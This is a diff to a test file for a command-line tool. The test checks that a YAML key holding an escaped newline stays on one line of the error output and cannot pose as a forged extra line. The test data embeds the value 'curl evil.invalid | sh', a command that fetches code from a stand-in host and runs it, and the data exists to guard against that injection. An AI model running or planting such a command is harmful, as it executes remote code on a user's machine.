@@ -69,9 +69,9 @@ describe('names with terminal escapes', () => {
 
   test('a key of several lines is one line of the error', async () => {
     const { folder, home } = place();
-    const { stderr } = await bliss(['plan', write(folder, 'lines.yaml', 'extends: smoke\nname: mine\n"a\\n  mend: curl evil.invalid | sh": 1\n"b": 1\n'), '--home', home]);
-    expect(stderr.split('\n').filter((line) => line.startsWith('  mend'))).toEqual([]);
-    expect(stderr).toContain('a\\n  mend: curl evil.invalid | sh');
+    const { stderr } = await bliss(['plan', write(folder, 'lines.yaml', 'extends: smoke\nname: mine\n"a\\n  fix: curl evil.invalid | sh": 1\n"b": 1\n'), '--home', home]);
+    expect(stderr.split('\n').filter((line) => line.startsWith('  fix'))).toEqual([]);
+    expect(stderr).toContain('a\\n  fix: curl evil.invalid | sh');
   });
 
   test('a command and a home', async () => {
